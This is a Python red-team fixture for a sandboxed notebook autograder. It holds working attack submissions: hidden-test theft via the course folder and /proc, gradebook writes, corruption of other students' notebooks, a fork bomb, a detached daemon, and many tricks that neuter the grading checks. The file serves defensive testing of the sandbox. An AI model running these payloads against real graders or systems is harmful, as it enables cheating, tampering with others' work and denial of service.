"""Malicious and broken submissions for the red-team fixture (week91: double 3 points, mean 2 points).

Each :class:`Case` is one student's notebook: the released notebook with some solution cells replaced
(``answers``) and optionally edited in other ways (``edit``). ``__COURSE_ROOT__`` in an answer is replaced by
the absolute path of the course being graded — a student can guess paths, so the attacks get them for free.

``expected`` is the score the sandboxed engine must give; ``tampering`` / ``notes`` are fragments that must
appear in the grade log's tampering report / the result's notes. ``fools_nbgrader`` marks attacks that get
full marks from plain ``nbgrader autograde`` — the tests check that too, so each attack is known to be real.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field

from nbformat import NotebookNode

DOUBLE_OK = "def double(x):\n    return 2 * x"
DOUBLE_WRONG = "def double(x):\n    return x"
MEAN_OK = "def mean(values):\n    return sum(values) / len(values)"
MEAN_WRONG = "def mean(values):\n    return sum(values) // len(values)"

#: per-cell timeout for the red-team batch, and the process cap it runs under
CELL_TIMEOUT = 3
NPROC = 128


@dataclass(frozen=True)
class Case:
    name: str
    why: str
    double: str = DOUBLE_OK
    mean: str = MEAN_OK
    expected: float = 5.0
    tampering: tuple[str, ...] = ()
    notes: tuple[str, ...] = ()
    flags: tuple[str, ...] = ()
    edit: Callable[[NotebookNode], None] | None = None
    fools_nbgrader: bool = False
    needs_network_isolation: bool = False
    needs_process_cap: bool = False
    #: the attack only fails where the course folder, the host's /proc and /tmp are hidden (bwrap, container)
    needs_file_isolation: bool = False
    extra: dict = field(default_factory=dict)

    def check(self, r, *, scan: bool = True) -> None:
        """Assert that grading result ``r`` is what this case expects: score, tampering report, notes and (with
        ``scan``) the static scan's flags; an honest notebook raises no alarm at all."""
        assert r.error is None, r.error
        assert (r.score, r.max_score) == (self.expected, 5.0), f"{self.name}: {self.why}; notes {r.notes}"
        report = "\n".join(r.tampering)
        for fragment in self.tampering:
            assert fragment in report, f"{self.name}: tampering report lacks {fragment!r}:\n{report}"
        notes = "\n".join(r.notes)
        for fragment in self.notes:
            assert fragment in notes, f"{self.name}: notes lack {fragment!r}: {r.notes}"
        if scan:
            flags = "\n".join(r.flags)
            for fragment in self.flags:
                assert fragment in flags, f"{self.name}: static scan lacks {fragment!r}: {r.flags}"
        if self.name.startswith("honest"):  # no false alarms on honest notebooks
            assert (r.tampering, r.limits) == ([], [])
            if scan:
                assert r.flags == []


def _gid(cell: NotebookNode) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _drop(*ids: str) -> Callable[[NotebookNode], None]:
    def edit(nb: NotebookNode) -> None:
        nb.cells = [c for c in nb.cells if _gid(c) not in ids]

    return edit


def _replace_source(ids: tuple[str, ...], text: str) -> Callable[[NotebookNode], None]:
    def edit(nb: NotebookNode) -> None:
        for c in nb.cells:
            if _gid(c) in ids:
                c.source = text

    return edit


def _points(changes: dict[str, float]) -> Callable[[NotebookNode], None]:
    def edit(nb: NotebookNode) -> None:
        for c in nb.cells:
            if _gid(c) in changes:
                c.metadata["nbgrader"]["points"] = changes[_gid(c)]

    return edit


READ_HIDDEN = """
import glob, os
leak = ""
for path in ["__COURSE_ROOT__/source/week91/week91_redteam.ipynb",
             "../../../source/week91/week91_redteam.ipynb",
             *glob.glob("/**/source/week91/*.ipynb", recursive=False)]:
    try:
        leak += open(path).read()
    except OSError as exc:
        print("cannot read", path, type(exc).__name__)
LEAKED = "REDTEAM_HIDDEN_MARKER" in leak
def double(x):
    return 2 * x if LEAKED else x
"""

WRITE_GRADEBOOK = """
import os, sqlite3
wrote = False
for root in ["__COURSE_ROOT__", "../../.."]:
    if not os.path.isfile(f"{root}/gradebook.db"):
        print("no course folder at", root)
        continue
    try:
        con = sqlite3.connect(f"file:{root}/gradebook.db?mode=rw", uri=True)
        con.execute("UPDATE grade_cells SET max_score = 0")
        con.commit()
        open(f"{root}/PWNED", "w").write("the grader let me write here")
        wrote = True
    except Exception as exc:
        print("cannot write", root, type(exc).__name__)
def double(x):
    return 2 * x if wrote else x
"""

READ_OTHER = """
import json
copied = None
for path in ["__COURSE_ROOT__/submitted/honest/week91/week91_redteam.ipynb",
             "../../../submitted/honest/week91/week91_redteam.ipynb"]:
    try:
        cells = json.load(open(path))["cells"]
        copied = next("".join(c["source"]) for c in cells if "def double" in "".join(c["source"]))
    except (OSError, StopIteration, ValueError) as exc:
        print("cannot read", path, type(exc).__name__)
if copied:
    exec(copied)
else:
    def double(x):
        return x
"""

NETWORK = """
import socket, threading, time
def _loopback_ok():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    def serve():
        conn, _ = server.accept()
        conn.sendall(conn.recv(16))
        conn.close()
    threading.Thread(target=serve, daemon=True).start()
    with socket.create_connection(server.getsockname(), timeout=2) as c:
        c.sendall(b"ping")
        return c.recv(16) == b"ping"
LOOPBACK = _loopback_ok()
start = time.monotonic()
try:  # TEST-NET-1: never routed; a sandbox without network fails at once
    socket.create_connection(("192.0.2.1", 80), timeout=0.5).close()
    OUTSIDE = "connected"
except OSError as exc:
    OUTSIDE = type(exc).__name__
ELAPSED = time.monotonic() - start
print("loopback", LOOPBACK, "outside", OUTSIDE, f"in {ELAPSED:.2f} s")
def double(x):
    return 2 * x if LOOPBACK else x
"""
NETWORK_MEAN = """
def mean(values):
    blocked = OUTSIDE != "connected" and ELAPSED < 0.4
    return sum(values) / len(values) if blocked else 0.0
"""

LOOP = "def double(x):\n    while True:\n        pass"

UNSTOPPABLE = """
import signal
def double(x):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
"""

FORK_BOMB = '''
import os, subprocess, sys, time
BOMB = """
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(60)
"""
bomb = subprocess.Popen([sys.executable, "-c", BOMB])
time.sleep(1.5)
count = sum(1 for p in os.listdir("/proc") if p.isdigit())
print("processes visible after the fork bomb:", count)
def double(x):
    return 2 * x
'''

MEMORY_HOG = """
def double(x):
    hog = bytearray(16 * 1024**3)
    return 2 * x
"""

OUTPUT_FLOOD = """
import sys
for _ in range(30):
    sys.stdout.write("spam " * 200_000 + "\\n")
def double(x):
    return 2 * x
"""

#: a marker in the argv of the daemon case's processes: the tests look for it on the host after the batch
DAEMON_MARKER = "redteam-daemon-5f1c"
DAEMON = f"""
import os, subprocess, sys
SLEEPER = "import time; time.sleep(300)"
subprocess.Popen([sys.executable, "-c", SLEEPER, "{DAEMON_MARKER}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:  # a classic double fork: the grandchild is re-parented, its parent exits at once
    if os.fork() == 0:
        os.setsid()
        os.execv(sys.executable, [sys.executable, "-c", SLEEPER, "{DAEMON_MARKER}"])
    os._exit(0)
os.wait()
def double(x):
    return 2 * x
"""

PROC_CMDLINE = """
import glob, os
leak = ""
places = set()
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        places.add(os.readlink(f"/proc/{pid}/cwd"))
        argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        places.update(a.decode(errors="replace") for a in argv if a.startswith(b"/"))
    except OSError:
        continue
for place in sorted(p for p in places if os.path.isdir(p)):
    for depth in range(4):
        for nb in glob.glob(place + "/*" * depth + "/source/week91/*.ipynb"):
            leak += open(nb).read()
LEAKED = "REDTEAM_HIDDEN_MARKER" in leak
print("leaked through /proc:", LEAKED)
def double(x):
    return 2 * x if LEAKED else x
"""

TMP_WALK = """
import os, sqlite3, tempfile
found = []
for top in {"/tmp", tempfile.gettempdir(), "/var/tmp", "/dev/shm"}:
    for folder, dirs, files in os.walk(top):
        if "gradebook.db" in files:
            path = os.path.join(folder, "gradebook.db")
            try:
                con = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
                found.append((path, [r[0] for r in con.execute("select name from sqlite_master")][:3]))
            except Exception:
                pass
print("gradebooks found:", len(found))
def double(x):
    return 2 * x if found else x
"""

CORRUPT_OTHER = """
import glob
hit = 0
for pattern in ["__COURSE_ROOT__/submitted/victim/week91/*.ipynb", "__COURSE_ROOT__/autograded/victim/week91/*",
                "../../../submitted/victim/week91/*.ipynb"]:
    for path in glob.glob(pattern):
        try:
            open(path, "w").write("{ corrupted by another student")
            hit += 1
        except OSError:
            pass
print("files corrupted:", hit)
def double(x):
    return 2 * x
"""

INPUT_TRANSFORMER = """
def double(x):
    return x
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
"""

AST_TRANSFORMER = """
import ast
class Nothing(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [ast.Pass()]
        return node
get_ipython().ast_transformers.append(Nothing())
def double(x):
    return x
"""

PRE_RUN_CELL = """
def _cheat(info):
    import labkit.checks
    labkit.checks.equal = lambda *args, **kwargs: None
get_ipython().events.register("pre_run_cell", _cheat)
def double(x):
    return x
"""

SETTRACE = """
import sys
def _local(frame, event, arg):
    if event == "line":
        last = max(line for _, _, line in frame.f_code.co_lines() if line is not None)
        if frame.f_lineno < last:
            frame.f_lineno = last  # jump to `return None`: every comparison "passes"
    return _local
def _tracer(frame, event, arg):
    return _local if frame.f_code.co_name == "_same_shape" else None
sys.settrace(_tracer)
def double(x):
    return x
"""

BUILTINS = """
import builtins
builtins.abs = lambda value: 0
def double(x):
    return 2 * x
"""

CHECKS_PATCH = """
from labkit import checks
checks.equal = lambda *args, **kwargs: None
def double(x):
    return x
"""

ALWAYS_EQUAL = """
class Anything:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
def double(x):
    return Anything()
"""

SUICIDE_MEAN = """
import os
os._exit(3)
def mean(values):
    return sum(values) / len(values)
"""

SYS_MODULES = """
import sys, types
fake = types.ModuleType("labkit.checks")
fake.equal = fake.close = lambda *args, **kwargs: None
sys.modules["labkit.checks"] = fake
checks = fake
def double(x):
    return x
"""

SIGNAL_TIMER = """
import signal
def _repatch(signum, frame):
    import labkit.checks
    labkit.checks.equal = lambda *args, **kwargs: None
signal.signal(signal.SIGALRM, _repatch)
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
def double(x):
    return x
"""

GUARD_BYPASS = """
kernel = get_ipython().kernel
original = kernel.shell_handlers["execute_request"]
async def quiet(stream, ident, parent):
    content = parent["content"]
    content["user_expressions"] = {}
    if "checks." in content["code"] or "assert" in content["code"]:
        content["code"] = "pass"
    return await original(stream, ident, parent)
kernel.shell_handlers["execute_request"] = quiet
def double(x):
    return x
"""

HONEST_LIBRARIES = """
import matplotlib.pyplot as plt
import pandas as pd
import six  # registers an import hook in sys.meta_path
fig, ax = plt.subplots()
ax.plot([1, 2, 3])
plt.show()
frame = pd.DataFrame({"x": [1, 2]})
def double(x):
    return 2 * x
"""

CASES: list[Case] = [
    Case("honest", "an honest full solution: the control group", expected=5),
    Case(
        "honest_libraries",
        "honest code whose libraries register IPython events and import hooks",
        double=HONEST_LIBRARIES,
        expected=5,
    ),
    Case(
        "read_hidden",
        "reads the source notebook with the hidden tests from the course folder",
        double=READ_HIDDEN,
        expected=2,
        fools_nbgrader=True,
        needs_file_isolation=True,
    ),
    Case(
        "write_gradebook",
        "writes the gradebook (sets every max score to 0) and a file in the course folder",
        double=WRITE_GRADEBOOK,
        expected=2,
        needs_file_isolation=True,
    ),
    Case(
        "read_other_student",
        "copies another student's answer from submitted/",
        double=READ_OTHER,
        expected=2,
        fools_nbgrader=True,
        needs_file_isolation=True,
    ),
    Case("victim", "an honest full solution that corrupt_other tries to overwrite", expected=5),
    Case(
        "proc_cmdline",
        "finds the course folder in the grader's command line under /proc and reads the hidden tests",
        double=PROC_CMDLINE,
        expected=2,
        fools_nbgrader=True,
        needs_file_isolation=True,
    ),
    Case(
        "tmp_walk",
        "walks the temporary folders for gradebooks (the tests' and other graders') and reads them",
        double=TMP_WALK,
        expected=2,
        fools_nbgrader=True,
        needs_file_isolation=True,
    ),
    Case(
        "corrupt_other",
        "overwrites another student's submitted and graded notebooks",
        double=CORRUPT_OTHER,
        expected=5,
        needs_file_isolation=True,
    ),
    Case(
        "daemon",
        "leaves a setsid process and a double-forked daemon behind (both must be gone after the batch)",
        double=DAEMON,
        expected=5,
        flags=("os.fork",),
    ),
    Case(
        "network",
        "loopback must work, a connection off the machine must fail fast",
        double=NETWORK,
        mean=NETWORK_MEAN,
        expected=5,
        needs_network_isolation=True,
        flags=("socket",),
    ),
    Case(
        "infinite_loop",
        "an endless loop: interrupted after the per-cell timeout, later cells still run",
        double=LOOP,
        expected=2,
        notes=("timed out",),
    ),
    Case(
        "unstoppable_loop",
        "an endless loop that ignores SIGINT: interrupt, then kill; later cells score 0",
        double=UNSTOPPABLE,
        expected=0,
        notes=("did not stop when interrupted", "later cells not run"),
        flags=("signal handlers",),
    ),
    Case(
        "fork_bomb",
        "a fork bomb in a child process: the process cap stops it, grading goes on",
        double=FORK_BOMB,
        expected=5,
        needs_process_cap=True,
    ),
    Case(
        "memory_hog",
        "allocates 16 GiB inside double: the memory cap makes it a MemoryError",
        double=MEMORY_HOG,
        expected=2,
    ),
    Case(
        "output_flood",
        "prints 30 MB: kept output is capped",
        double=OUTPUT_FLOOD,
        expected=5,
        notes=("output of w91_redteam_double cut",),
    ),
    Case(
        "input_transformer",
        "an IPython input transformer turns every later cell into `pass`",
        double=INPUT_TRANSFORMER,
        expected=2,
        tampering=("input transformer",),
        fools_nbgrader=True,
        flags=("input transformers",),
    ),
    Case(
        "ast_transformer",
        "an AST transformer empties every later cell",
        double=AST_TRANSFORMER,
        expected=2,
        tampering=("AST transformer",),
        fools_nbgrader=True,
        flags=("AST transformers",),
    ),
    Case(
        "pre_run_cell",
        "a pre_run_cell event re-patches labkit.checks before every cell",
        double=PRE_RUN_CELL,
        expected=2,
        tampering=("pre_run_cell",),
        fools_nbgrader=True,
        flags=("registers an IPython event",),
    ),
    Case(
        "settrace",
        "a trace function jumps over every comparison inside labkit.checks",
        double=SETTRACE,
        expected=2,
        tampering=("trace function",),
        fools_nbgrader=True,
        flags=("sys.settrace",),
    ),
    Case(
        "builtins_patch",
        "replaces builtins.abs so the bare-assert hidden test passes a wrong mean",
        mean=MEAN_WRONG,
        double=BUILTINS,
        expected=3,
        tampering=("builtin 'abs'",),
        flags=("builtins",),
    ),
    Case(
        "checks_monkeypatch",
        "replaces labkit.checks.equal with a function that accepts anything",
        double=CHECKS_PATCH,
        expected=2,
        tampering=("labkit.checks.equal",),
        fools_nbgrader=True,
        flags=("monkeypatches checks.equal",),
    ),
    Case(
        "sys_modules_swap",
        "swaps labkit.checks in sys.modules and rebinds `checks`",
        double=SYS_MODULES,
        expected=2,
        tampering=("sys.modules", "'checks'"),
        fools_nbgrader=True,
    ),
    Case(
        "signal_timer",
        "a SIGALRM timer re-patches labkit.checks while the tests run",
        double=SIGNAL_TIMER,
        expected=2,
        tampering=("SIGALRM", "interval timer"),
        fools_nbgrader=True,
        flags=("signal.setitimer",),
    ),
    Case(
        "always_equal",
        "returns an object that compares equal to anything",
        double=ALWAYS_EQUAL,
        expected=2,
        flags=("always-equal",),
    ),
    Case(
        "guard_bypass",
        "replaces the kernel's execute_request handler: tests become `pass`",
        double=GUARD_BYPASS,
        expected=0,
        tampering=("integrity guard did not run",),
        fools_nbgrader=True,
        flags=("message handlers",),
    ),
    Case(
        "kernel_suicide",
        "os._exit in the mean cell: the kernel dies, mean's tests score 0",
        mean=SUICIDE_MEAN,
        expected=3,
        notes=("kernel died", "later cells not run"),
        flags=("os._exit",),
    ),
    Case(
        "deleted_tests",
        "deletes both test cells of double (they are put back and run)",
        double=DOUBLE_WRONG,
        expected=2,
        edit=_drop("w91_redteam_double_visible", "w91_redteam_double_hidden"),
        tampering=("deleted locked cell w91_redteam_double_visible",),
        notes=("restored deleted cells",),
        fools_nbgrader=False,
    ),
    Case(
        "edited_tests",
        "replaces the test cells of double with `pass`",
        double=DOUBLE_WRONG,
        expected=2,
        edit=_replace_source(("w91_redteam_double_visible", "w91_redteam_double_hidden"), "pass"),
        tampering=("edited locked cell w91_redteam_double_visible",),
    ),
    Case(
        "changed_points",
        "gives the visible mean test 100 points and double's 0",
        expected=5,
        edit=_points({"w91_redteam_mean_visible": 100, "w91_redteam_double_visible": 0}),
        tampering=("changed the points of w91_redteam_mean_visible from 1 to 100",),
    ),
]

#: broken files: (student, what to write, fragment of the expected error)
BAD_INPUTS = [
    ("corrupt_json", "truncated JSON", "corrupt JSON"),
    ("old_nbformat", "an nbformat 3 notebook", "nbformat 3"),
    ("renamed", "the notebook saved under another name", "unexpected notebook"),
    ("not_utf8", "Latin-1 bytes", "not UTF-8"),
    ("huge", "a notebook over the size limit", "larger than the 1 MB limit"),
]
